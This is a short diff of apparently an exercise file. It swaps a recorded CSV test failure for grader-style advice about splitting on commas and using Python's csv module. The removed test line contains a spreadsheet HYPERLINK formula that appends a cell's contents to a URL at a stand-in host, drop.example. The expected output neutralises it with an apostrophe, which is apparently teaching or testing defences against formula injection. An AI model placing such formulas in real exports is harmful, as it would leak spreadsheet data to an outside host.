@@ -1,4 +1,5 @@
-# Line 1: expected ""\"name\",\"message\"\r\n\"wren\",\"When do you open?\"\r\n\"rook\",\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2,\"\"Invoice\"\")\"\r\n"", got ""\"name\",\"message\"\r\n\"wren\",\"When do you open?\"\r\n\"rook\",\"'=HYPERLINK(\"\"http://drop.example/?\"\"&A2\",\"Invoice\"\")\"\r\n"".
+# advice: You split at every comma, so `"Printer, third floor"` falls into two cells. The module `csv` knows which commas belong to a cell.
+# look: 03-commas-and-line-breaks
 import re
 
 
